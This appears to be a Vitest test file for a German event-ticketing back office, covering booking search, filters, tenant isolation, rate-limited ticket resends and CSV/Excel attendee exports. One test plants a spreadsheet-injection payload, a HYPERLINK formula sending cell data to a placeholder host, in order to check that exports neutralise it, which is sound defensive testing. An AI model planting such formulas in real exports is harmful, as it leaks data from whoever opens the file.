import { eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "~/lib/db.server";
import { outbox } from "~/modules/outbox/schema";
import { attendeeExport } from "~/modules/ticketing/export-attendees.server";
import { exportBookings, listOrganizerBookings } from "~/modules/ticketing/list-organizer-bookings.server";
import { getOrganizerBookingView } from "~/modules/ticketing/organizer-booking-view.server";
import { bookingsList } from "~/modules/ticketing/organizer-bookings-list";
import { resendTicketEmail } from "~/modules/ticketing/resend-ticket-email.server";
import ExcelJS from "exceljs";
import { bookingAttendees } from "~/modules/ticketing/schema";
import { csvExportStream, xlsxExportResponse } from "~/ui/back-office/export.server";
import { parseListParams } from "~/lib/list/list-spec";
import { bookEvent, makeOrganizer, makeOrganizerEvent } from "../../../tests/factories/organizers";
import { setupTestDb } from "../../../tests/setup/db";

beforeAll(setupTestDb);

const params = (qs = "") => parseListParams(new URLSearchParams(qs), bookingsList);

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  const chunks: Uint8Array[] = [];
  const reader = stream.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  return Buffer.concat(chunks).toString("utf8");
}

describe("organizer bookings", () => {
  it("lists only the organizer's bookings, finds them by name, e-mail, reference and ticket number, and filters", async () => {
    const org = await makeOrganizer({ plan: "professional" });
    const other = await makeOrganizer();
    const event = await makeOrganizerEvent(org, { title: "Jazz im Hafen" });
    const second = await makeOrganizerEvent(org, { title: "Lesung am Dom" });
    const a = await bookEvent(event, 2);
    await bookEvent(second, 1);
    const foreign = await bookEvent(await makeOrganizerEvent(other), 1);

    const all = await listOrganizerBookings({ actor: org.actor, params: params() });
    expect(all.total).toBe(2);
    expect(all.rows.map((r) => r.id)).not.toContain(foreign.bookingId);
    expect(all.rows[0]!.statusLabel).toBe("Bestätigt");

    const byRef = await listOrganizerBookings({ actor: org.actor, params: params(`q=${a.bookingReference.toLowerCase()}`) });
    expect(byRef.rows.map((r) => r.id)).toEqual([a.bookingId]);
    const byEmail = await listOrganizerBookings({ actor: org.actor, params: params(`q=${a.buyer.email.slice(0, 14)}`) });
    expect(byEmail.rows.map((r) => r.id)).toEqual([a.bookingId]);
    const view = await getOrganizerBookingView(org.actor, a.bookingId);
    const byTicket = await listOrganizerBookings({ actor: org.actor, params: params(`q=${view.attendees[1]!.ticketNumber}`) });
    expect(byTicket.rows.map((r) => r.id)).toEqual([a.bookingId]);
    const byName = await listOrganizerBookings({ actor: org.actor, params: params("q=gast 2") });
    expect(byName.rows.map((r) => r.id)).toEqual([a.bookingId]);
    // the other organizer's booking is not found by its reference
    expect((await listOrganizerBookings({ actor: org.actor, params: params(`q=${foreign.bookingReference}`) })).total).toBe(0);

    expect((await listOrganizerBookings({ actor: org.actor, params: params(`event=${second.id}`) })).total).toBe(1);
    expect((await listOrganizerBookings({ actor: org.actor, params: params("checkedIn=yes") })).total).toBe(0);
    expect((await listOrganizerBookings({ actor: org.actor, params: params("checkedIn=no&status=confirmed") })).total).toBe(2);
    expect((await listOrganizerBookings({ actor: org.actor, params: params(`category=${event.ticketCategories[0]!.id}`) })).total).toBe(1);
    expect((await listOrganizerBookings({ actor: org.actor, params: params("status=cancelled") })).total).toBe(0);
    expect((await listOrganizerBookings({ actor: org.actor, params: params("period=today") })).total).toBe(2);
    // an admin sees every booking
    const admin = { ...org.actor, id: "admin-x", role: "admin" as const };
    expect((await listOrganizerBookings({ actor: admin, params: params(`q=${foreign.bookingReference}`) })).total).toBe(1);
  });

  it("filters by the booking-day range, and both exports take the list's filters", async () => {
    const org = await makeOrganizer({ plan: "professional" });
    const event = await makeOrganizerEvent(org, { title: "Hafenkonzert" });
    const a = await bookEvent(event, 2);
    const b = await bookEvent(event, 1);
    await db.execute(sql`update bookings set created_at = '2026-03-10T12:00:00Z' where id = ${b.bookingId}::uuid`);
    const march = await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}&from=01.03.2026&to=31.03.2026`) });
    expect(march.rows.map((r) => r.id)).toEqual([b.bookingId]);
    expect((await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}&to=2026-03-09`) })).total).toBe(0);

    const bookingsCsv = await readAll(csvExportStream(exportBookings(org.actor, params(`q=${a.bookingReference}`))));
    const lines = bookingsCsv.slice(1).trim().split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(a.bookingReference);
    expect(() => exportBookings(org.actor, params(), "admin")).toThrow(expect.objectContaining({ code: "FORBIDDEN" }));

    const attendees = await readAll(csvExportStream(await attendeeExport({ actor: org.actor, eventId: event.id, params: params(`q=${b.bookingReference}`) })));
    const rows = attendees.slice(1).trim().split("\r\n").slice(1);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(b.bookingReference);
  });

  it("counts up to 10.000 bookings exactly and says 'more than' above, newest first on every page", async () => {
    const org = await makeOrganizer({ plan: "professional" });
    const event = await makeOrganizerEvent(org, { title: "Großes Festival" });
    await db.execute(sql`
      insert into bookings (user_email, event_id, status, payment_status, total_amount_cents, quantity, booking_reference, created_at)
      select 'masse' || i || '@example.test', ${event.id}::uuid, 'confirmed', 'completed', 1500, 1, 'SP-MASSE-' || i, now() - i * interval '1 minute'
      from generate_series(1, 10001) i`);
    const first = await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}`) });
    expect(first).toMatchObject({ total: 10000, totalCapped: true });
    expect(first.rows.map((r) => r.reference).slice(0, 3)).toEqual(["SP-MASSE-1", "SP-MASSE-2", "SP-MASSE-3"]);
    const second = await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}&page=2`) });
    expect(second.rows[0]!.reference).toBe("SP-MASSE-26");
    const oldest = await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}&dir=asc`) });
    expect(oldest.rows[0]!.reference).toBe("SP-MASSE-10001");
    await db.execute(sql`delete from bookings where booking_reference = 'SP-MASSE-1'`);
    // exactly 10.000: counted, not capped (TableList leaves totalCapped out then)
    const exact = await listOrganizerBookings({ actor: org.actor, params: params(`event=${event.id}`) });
    expect(exact.total).toBe(10000);
    expect(exact.totalCapped ?? false).toBe(false);
  });

  it("refuses another organizer's booking and event for every action and changes nothing", async () => {
    const owner = await makeOrganizer();
    const intruder = await makeOrganizer();
    const event = await makeOrganizerEvent(owner);
    const booking = await bookEvent(event, 1);
    const before = await db.select({ n: sql<number>`count(*)::int` }).from(outbox);
    await expect(getOrganizerBookingView(intruder.actor, booking.bookingId)).rejects.toMatchObject({ code: "BOOKING_NOT_FOUND", status: 404 });
    await expect(resendTicketEmail({ actor: intruder.actor, bookingId: booking.bookingId })).rejects.toMatchObject({ code: "BOOKING_NOT_FOUND", status: 404 });
    await expect(attendeeExport({ actor: intruder.actor, eventId: event.id })).rejects.toMatchObject({ code: "EVENT_NOT_FOUND", status: 404 });
    await expect(getOrganizerBookingView(intruder.actor, "kein-uuid")).rejects.toMatchObject({ code: "BOOKING_NOT_FOUND" });
    const after = await db.select({ n: sql<number>`count(*)::int` }).from(outbox);
    expect(after[0]!.n).toBe(before[0]!.n);
  });

  it("resends the ticket e-mail to the buyer once per two minutes", async () => {
    const org = await makeOrganizer();
    const booking = await bookEvent(await makeOrganizerEvent(org), 1);
    const r = await resendTicketEmail({ actor: org.actor, bookingId: booking.bookingId });
    expect(r.to).toBe(booking.buyer.email);
    const mails = await db.select().from(outbox).where(eq(outbox.recipient, booking.buyer.email));
    expect(mails.some((m) => m.dedupeKey?.includes("organizer-resend"))).toBe(true);
    await expect(resendTicketEmail({ actor: org.actor, bookingId: booking.bookingId })).rejects.toMatchObject({
      code: "RATE_LIMITED",
      message: "Die E-Mail wurde gerade erst gesendet. Bitte warten Sie einen Moment.",
    });
  });

  it("exports the attendee list as CSV that reads back with BOM, ';' and German dates", async () => {
    const org = await makeOrganizer();
    const event = await makeOrganizerEvent(org, { title: "Größtes Straßenfest" });
    const b1 = await bookEvent(event, 2);
    await bookEvent(event, 1);
    const spec = await attendeeExport({ actor: org.actor, eventId: event.id, batchSize: 2 });
    expect(spec.filename).toMatch(/^teilnehmer-groesstes-strassenfest-\d{4}-\d{2}-\d{2}$/);
    const text = await readAll(csvExportStream(spec));
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trim().split("\r\n");
    expect(lines[0]).toBe("Ticketnummer;Vorname;Nachname;Ticketkategorie;Buchungsnummer;E-Mail;Buchungsstatus;Ticket gültig;Eingecheckt;Eingecheckt am;Gebucht am;Preis;Kanal;Verkauft von;Zahlart");
    expect(lines).toHaveLength(4);
    const rows = lines.slice(1).map((l) => l.split(";"));
    const mine = rows.filter((r) => r[4] === b1.bookingReference);
    expect(mine).toHaveLength(2);
    expect(mine[0]).toEqual([expect.stringMatching(/^SP-/), "Erika", expect.stringMatching(/^Gast \d$/), "Stehplatz", b1.bookingReference, b1.buyer.email, "Bestätigt", "ja", "nein", "", expect.stringMatching(/^\d{2}\.\d{2}\.\d{4}$/), "15,00", "Online", "", "Testanbieter"]);
  });

  it("neutralises attendee names that start like a formula in CSV and Excel (issue 21 finding 5)", async () => {
    const org = await makeOrganizer();
    const event = await makeOrganizerEvent(org, { title: "Formelfest" });
    const b = await bookEvent(event, 2);
    const [a1, a2] = await db.select().from(bookingAttendees).where(eq(bookingAttendees.bookingId, b.bookingId));
    await db.update(bookingAttendees).set({ firstName: '=HYPERLINK("http://x.example/?d="&A1,"klick")', lastName: "-1+1" }).where(eq(bookingAttendees.id, a1!.id));
    await db.update(bookingAttendees).set({ firstName: "\tTab", lastName: "@Gast" }).where(eq(bookingAttendees.id, a2!.id));
    const text = await readAll(csvExportStream(await attendeeExport({ actor: org.actor, eventId: event.id })));
    const rows = text.slice(1).trim().split("\r\n").slice(1);
    expect(rows.some((r) => r.includes(`;"'=HYPERLINK(""http://x.example/?d=""&A1,""klick"")";'-1+1;`))).toBe(true);
    expect(rows.some((r) => r.includes(`;'\tTab;'@Gast;`))).toBe(true);

    const xlsx = xlsxExportResponse({ ...(await attendeeExport({ actor: org.actor, eventId: event.id })), filename: "x.xlsx", sheetName: "Teilnehmer" });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await xlsx.arrayBuffer());
    const names = wb.getWorksheet("Teilnehmer")!.getSheetValues().slice(2).map((r) => (r as unknown[]).slice(2, 4));
    expect(names).toContainEqual([`'=HYPERLINK("http://x.example/?d="&A1,"klick")`, "'-1+1"]);
    expect(names).toContainEqual(["'\tTab", "'@Gast"]);
  });
});

